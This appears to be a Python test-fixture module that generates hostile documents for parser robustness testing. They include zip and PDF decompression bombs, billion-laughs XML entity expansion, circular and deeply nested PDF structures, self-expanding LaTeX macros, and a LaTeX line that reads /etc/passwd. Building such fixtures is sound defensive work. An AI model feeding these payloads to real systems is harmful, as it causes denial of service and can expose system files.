"""Files made to harm whoever reads them, one for each way and format; made here, not collected."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

DOCX = "word/document.xml"
CHAPTER = "a.xhtml"
MEMBERS = (DOCX, CHAPTER)  # what inflates in a file that is an archive
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    '<rootfile full-path="c.opf" media-type="application/oebps-package+xml"/></rootfiles>'
    "</container>"
)


def zipped(files: dict[str, bytes], *, stored: tuple[str, ...] = ()) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=how)
    return kept.getvalue()


def pdf(objects: list[bytes]) -> bytes:
    """Return a PDF of numbered objects, the first of them the catalogue."""
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    return out + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n"
        b"<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (count, table, count, len(out))
    )


def stream(data: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def page_of(contents: bytes, *, pages: int = 1) -> bytes:
    """Return a PDF whose pages all show one content stream."""
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(pages))
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        b"/Resources<</Font<</F 3 0 R>>>>>>"
    )
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            contents,
            *[page] * pages,
        ]
    )


def inflating_pdf() -> bytes:
    """One page whose content inflates to 80 MB."""
    packer = zlib.compressobj(6)
    block = b" " * (1 << 20)
    data = b"".join(packer.compress(block) for _ in range(80)) + packer.flush()
    return page_of(stream(data))


def busy_pdf() -> bytes:
    """One page that shows a million words, in a file of a few kilobytes."""
    return page_of(stream(zlib.compress(b"BT /F 9 Tf " + b"(x) Tj " * 1_000_000 + b"ET", 9)))


def many_pages_pdf() -> bytes:
    """Two thousand pages that all show the same twenty thousand words."""
    shown = zlib.compress(b"BT /F 9 Tf " + b"(x) Tj " * 20_000 + b"ET", 9)
    return page_of(stream(shown), pages=2_000)


def circular_pdf() -> bytes:
    """A page tree that is its own child, and an outline that is its own next."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/Outlines 3 0 R>>",
            b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
            b"<</First 3 0 R/Last 3 0 R/Next 3 0 R/Title(x)>>",
        ]
    )


def layered_pdf() -> bytes:
    """A content stream packed forty times over."""
    data = b" " * 1_000_000
    for _ in range(40):
        data = zlib.compress(data, 9)
    return page_of(stream(data, b"/Filter[" + b"/FlateDecode" * 40 + b"]"))


def nested_pdf() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"[" * 100_000 + b"]" * 100_000])


def inflating_docx() -> bytes:
    """A document that inflates to 80 MB."""
    text = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>'.encode()
    return zipped({DOCX: text + b"a" * (80 << 20) + b"</w:t></w:r></w:p></w:body></w:document>"})


def expanding_docx() -> bytes:
    """A document whose entities expand to a thousand million letters."""
    return zipped({DOCX: laughs("w:document", f'xmlns:w="{WORD}"')})


def laughs(root: str, attributes: str = "") -> bytes:
    """Return XML with entities of entities, nine deep."""
    named = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    doctype = f'<!DOCTYPE {root} [<!ENTITY l0 "lol">{named}]>'
    return f'<?xml version="1.0"?>{doctype}<{root} {attributes}><p>&l9;</p></{root}>'.encode()


def inflating_epub() -> bytes:
    """A book with a chapter that inflates to 80 MB."""
    opf = (
        '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml" '
        'media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine>'
        "</package>"
    )
    chapter = b"<html><body><p>" + b"a" * (80 << 20) + b"</p></body></html>"
    files = {
        "mimetype": b"application/epub+zip",
        "META-INF/container.xml": CONTAINER.encode(),
        "c.opf": opf.encode(),
        CHAPTER: chapter,
    }
    return zipped(files, stored=("mimetype",))


def looping_latex() -> bytes:
    """Commands that are defined by each other, and files that bring themselves in."""
    return (
        rb"\documentclass{article}\newcommand{\a}{\b\b}\newcommand{\b}{\a\a}\def\c{\c\c}"
        rb"\begin{document}Moss grows. \a \c \input{/etc/passwd} \input{self}\end{document}"
    )


def doubling_latex() -> bytes:
    """Thirty commands, each twice the one before."""
    names = "abcdefghijklmnopqrstuvwxyzABCD"
    defined = "".join(
        rf"\newcommand{{\x{one}}}{{\x{two}\x{two}}}"
        for one, two in zip(names[1:], names, strict=False)
    )
    return rf"\newcommand{{\xa}}{{moss }}{defined}\begin{{document}}\xD\end{{document}}".encode()


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a PDF that inflates": ("a.pdf", inflating_pdf),
    "a PDF with a million words on a page": ("a.pdf", busy_pdf),
    "a PDF with two thousand full pages": ("a.pdf", many_pages_pdf),
    "a PDF that goes in circles": ("a.pdf", circular_pdf),
    "a PDF packed forty times": ("a.pdf", layered_pdf),
    "a PDF nested too deeply": ("a.pdf", nested_pdf),
    "a Word document that inflates": ("a.docx", inflating_docx),
    "a Word document whose entities expand": ("a.docx", expanding_docx),
    "an XML article whose entities expand": ("a.xml", lambda: laughs("article")),
    "an XHTML page whose entities expand": ("a.xhtml", lambda: laughs("html")),
    "a book that inflates": ("a.epub", inflating_epub),
    "LaTeX that defines itself": ("a.tex", looping_latex),
    "LaTeX that doubles": ("a.tex", doubling_latex),
    "Markdown of brackets": ("a.md", lambda: b"[" * 200_000),
    "Markdown of quotes": ("a.md", lambda: b"> " * 50_000 + b"moss"),
    "Markdown of emphasis": ("a.md", lambda: b"*a_ " * 100_000),
    "HTML nested too deeply": ("a.html", lambda: b"<html>" + b"<div><b>" * 300_000),
    "HTML with a table in each cell": ("a.html", lambda: b"<html>" + b"<table><td>" * 20_000),
    "a text of one long line": ("a.txt", lambda: b"moss" * 3_000_000),
    "a text of empty lines": ("a.txt", lambda: b"moss\n" + b"\n \n" * 1_000_000),
    "a text of one letter a line": ("a.txt", lambda: b"1. A.\n" * 400_000),
    "a text of dots": ("a.txt", lambda: b"A. " * 1_000_000),
}
